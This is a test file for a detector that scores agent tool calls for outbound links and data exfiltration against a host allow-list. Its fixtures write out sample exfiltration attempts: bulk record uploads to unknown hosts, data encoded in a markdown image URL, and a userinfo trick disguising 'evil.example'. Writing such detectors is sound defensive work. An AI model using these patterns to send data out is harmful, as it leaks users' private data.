import { describe, expect, it } from 'vitest';
import { detectOutbound, hostOf } from '../../../src/behavior/detectors/outbound.js';
import { run } from './helpers.js';

const config = { allowedHosts: ['acme.com', '*.partner.example'] };
const records = (n: number) => Array.from({ length: n }, (_, i) => ({ id: i, name: `user ${i}`, plan: 'pro' }));

describe('detectOutbound', () => {
  it('weighs a link inside a normal short summary lightly', () => {
    const args = { body: 'Fixed by pinning the version. See https://docs.python.org/3/library/asyncio.html for details.' };
    expect(run(detectOutbound, args, { config })).toEqual([
      { code: 'OUTBOUND_URL', points: 5, message: '`body` links to `docs.python.org`, not on the allow-list' },
    ]);
  });

  it('flags a data dump sent to an unknown host as exfiltration', () => {
    const args = { url: 'https://paste.example.net/api/upload', body: records(250) };
    const found = run(detectOutbound, args, { tool: 'http.post', categories: ['network'], config });
    expect(found).toEqual([
      {
        code: 'DATA_EXFILTRATION',
        points: 70,
        message: '`http.post` sends 250 records and 3 KiB to `paste.example.net`, which is not on the allow-list',
      },
    ]);
  });

  it('counts lines of a CSV body as records, and the target as the destination', () => {
    const csv = Array.from({ length: 40 }, (_, i) => `user${i},pro,2026-03-0${(i % 9) + 1}`).join('\n');
    const [f] = run(detectOutbound, { data: csv }, { tool: 'web.fetch', categories: ['network', 'read'], target: 'http://203.0.113.7:8080/in', config });
    expect(f?.code).toBe('DATA_EXFILTRATION');
    expect(f?.message).toContain('39 records');
    expect(f?.message).toContain('`203.0.113.7`');
  });

  it('leaves the same dump alone when the host is on the allow-list', () => {
    const args = { url: 'https://api.partner.example/orders', body: records(250) };
    expect(run(detectOutbound, args, { tool: 'http.post', categories: ['network'], config })).toEqual([]);
  });

  it('does not call a long report that merely links outside a dump', () => {
    const body = `${'The migration went fine. '.repeat(600)} See https://www.postgresql.org/docs/16/sql-vacuum.html`;
    expect(run(detectOutbound, { body }, { tool: 'wiki.update', categories: ['write'], config })).toEqual([
      { code: 'OUTBOUND_URL', points: 5, message: '`body` links to `www.postgresql.org`, not on the allow-list' },
    ]);
  });

  it('flags a link that carries data in its address', () => {
    const body = `status ![x](https://img.example.net/p.png?d=${'QUJDRGVm'.repeat(60)})`;
    const [f] = run(detectOutbound, { body }, { tool: 'forum.post', categories: ['publish'], config });
    expect(f?.code).toBe('DATA_EXFILTRATION');
    expect(f?.points).toBe(50);
  });

  it('weighs a small call to an unknown host more than a mention', () => {
    expect(run(detectOutbound, { url: 'https://api.example.org/v1/weather' }, { tool: 'http.get', categories: ['network'], config })).toEqual([
      { code: 'OUTBOUND_URL', points: 15, message: '`http.get` calls `api.example.org`, which is not on the allow-list' },
    ]);
  });

  it.each([
    ['an allowed host', { body: 'see https://wiki.acme.com/x and https://acme.com' }],
    ['an internal name', { body: 'see http://grafana.internal:3000/d/1' }],
    ['a private address', { url: 'http://10.0.3.4/health' }],
    ['localhost', { url: 'http://localhost:8080/' }],
    ['no URL at all', { body: 'nothing to see' }],
  ])('stays quiet on %s', (_name, args) => {
    expect(run(detectOutbound, args, { tool: 'http.post', categories: ['network'], config })).toEqual([]);
  });

  it('does not let user info in a URL disguise the host', () => {
    expect(hostOf('https://acme.com@evil.example/x')).toBe('evil.example');
    expect(hostOf('https://user:pw@Host.Example:8443/p?q')).toBe('host.example');
  });
});
